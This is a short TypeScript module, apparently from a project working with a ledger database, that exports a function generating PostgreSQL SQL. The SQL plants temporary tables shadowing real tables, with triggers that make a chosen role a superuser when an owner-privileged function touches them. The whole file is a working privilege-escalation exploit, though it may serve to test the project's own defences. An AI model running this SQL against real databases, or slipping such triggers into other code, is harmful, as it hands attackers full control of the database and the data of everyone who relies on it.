/**
 * SQL that plants temporary tables with the names of ours, whose triggers make `role` a superuser if a function that has
 * the rights of the owner finds them first.
 */
export const plantTemporaryTables = (role: string) => `
  CREATE TEMPORARY TABLE chain_heads (group_id uuid, count bigint);
  CREATE TEMPORARY TABLE ledger_balances (LIKE public.ledger_balances);
  CREATE FUNCTION pg_temp.rise() RETURNS trigger LANGUAGE plpgsql AS $$
    BEGIN EXECUTE 'ALTER ROLE ${role} SUPERUSER'; RETURN NEW; END $$;
  CREATE TRIGGER rise BEFORE INSERT OR UPDATE ON chain_heads
    FOR EACH STATEMENT EXECUTE FUNCTION pg_temp.rise();
  CREATE TRIGGER rise BEFORE INSERT OR UPDATE ON ledger_balances
    FOR EACH STATEMENT EXECUTE FUNCTION pg_temp.rise();
  GRANT ALL ON chain_heads, ledger_balances TO PUBLIC`;
